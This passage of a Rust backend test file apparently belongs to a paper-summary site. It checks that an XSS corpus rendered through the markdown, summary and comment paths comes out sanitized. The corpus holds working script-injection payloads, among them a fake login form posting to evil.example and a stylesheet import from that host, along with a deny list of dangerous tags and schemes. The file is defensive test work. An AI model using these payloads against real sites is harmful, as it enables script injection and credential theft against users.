    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    "<math><maction actiontype=\"statusline#http://evil\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<form action=\"https://evil.example\"><input name=password><button>Log in</button></form>",
    "<div style=\"background-image: url(javascript:alert('XSS'))\">styled</div>",
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"  JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](x \"onerror=alert(1)\")",
    "[a](<javascript:alert(1)>)",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "$\\href{javascript:alert(1)}{click}$",
    "$$\\url{javascript:alert(1)}$$",
    "$<img src=x onerror=alert(1)>$",
    "$x</math><img src=x onerror=alert(1)>$",
    "$\\text{<script>alert(1)</script>}$",
    "\\(\\style{color:red}{x}\\)",
    "$\\unicode{<img src=x onerror=alert(1)>}$",
    "<a href=\"/papers/1\" onclick=\"alert(1)\">paper</a>",
    "\\cite{arxiv:\"><script>alert(1)</script>}",
];

/// What must never appear in rendered HTML.
pub fn assert_harmless(html: &str, input: &str) {
    // Text is escaped, so every `<` starts a real tag: check the tags, not the harmless text.
    let lower: String = html
        .to_ascii_lowercase()
        .split('<')
        .skip(1)
        .map(|tag| format!("<{}>", tag.split('>').next().unwrap_or_default()))
        .collect();
    for needle in [
        "<script",
        "javascript:",
        "vbscript:",
        "data:text",
        "<iframe",
        "<object",
        "<form",
        "<input",
        "<button",
        "<style",
        "style=",
        "<meta",
        "<svg",
        "<noscript",
        "xlink:href",
        "href=\"data",
    ] {
        assert!(
            !lower.contains(needle),
            "{input:?} rendered {needle}: {html}"
        );
    }
    // No event-handler attribute on any tag: ` on…=` inside a tag.
    let mut in_tag = false;
    let bytes = lower.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        match b {
            b'<' => in_tag = true,
            b'>' => in_tag = false,
            b' ' | b'/' | b'\t' | b'\n' if in_tag => {
                let rest = &lower[i + 1..];
                let name: String = rest
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric())
                    .collect();
                assert!(
                    !(name.starts_with("on") && rest[name.len()..].trim_start().starts_with('=')),
                    "{input:?} rendered an event handler: {html}"
                );
            }
            _ => {}
        }
    }
}

backend_test! {
    async fn hostile_markdown_renders_harmless_through_every_path(app) {
        let writer = app.register("attacker").await;
        let paper = paper(&app, &writer, "Target Paper").await;
        let body = XSS_CORPUS.join("\n\n");
        let response = write(&app, &writer, paper, json!({"body_markdown": body})).await;
        assert_eq!(response.status(), StatusCode::CREATED);
        let created: SummaryDetail = response.json().await.unwrap();
        assert_harmless(created.summary.body_html.as_deref().unwrap(), "the whole corpus");
        assert_harmless(&created.summary.excerpt_html, "the whole corpus (excerpt)");
        for input in XSS_CORPUS {
            let response = app.post_json("/api/v1/render", &json!({"markdown": input}), None).await;
            assert_eq!(response.status(), StatusCode::OK);
            let rendered: shortscience_types::RenderResponse = response.json().await.unwrap();
            assert_harmless(&rendered.html, input);
            let response = app.post_json(&format!("/api/v1/summaries/{}/comments", created.summary.id), &json!({"body_markdown": input}), Some(&writer.access)).await;
            assert_eq!(response.status(), StatusCode::CREATED);
        }
        let thread: CommentThread = app.get_json(&format!("/api/v1/summaries/{}/comments", created.summary.id)).await;
        for comment in &thread.items {
            assert_harmless(comment.body_html.as_deref().unwrap_or_default(), "a comment");
        }
        // The preview is exactly the published rendering.
        let preview: shortscience_types::RenderResponse = app.post_json("/api/v1/render", &json!({"markdown": MATH_BODY}), None).await.json().await.unwrap();
        let bob = app.register("bobby").await;
        let published: SummaryDetail = write(&app, &bob, paper, json!({"body_markdown": MATH_BODY})).await.json().await.unwrap();
        assert_eq!(Some(preview.html), published.summary.body_html);
        let too_long = app.post_json("/api/v1/render", &json!({"markdown": "x".repeat(50_001)}), None).await;
        let problem = assert_problem(too_long, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert_eq!(problem.errors[0].field, "markdown");
    }
}

backend_test! {
    async fn demo_summaries_have_a_first_revision_and_feed_in_hot_order(app, Options::demo()) {
        let feed: SummaryPage = app.get_json("/api/v1/summaries").await;
        assert!(!feed.items.is_empty());
        let hots: Vec<f64> = feed.items.iter().map(|s| s.summary.hot).collect();
        assert!(hots.windows(2).all(|w| w[0] >= w[1]), "{hots:?}");
        let first = &feed.items[0].summary;
        let revisions: RevisionList = app.get_json(&format!("/api/v1/summaries/{}/revisions", first.id)).await;
        assert_eq!(revisions.items.len(), 1);
        let whole: SummaryDetail = app.get_json(&format!("/api/v1/summaries/{}", first.id)).await;
        assert_eq!(Some(&revisions.items[0].body_markdown), whole.summary.body_markdown.as_ref());
    }
}
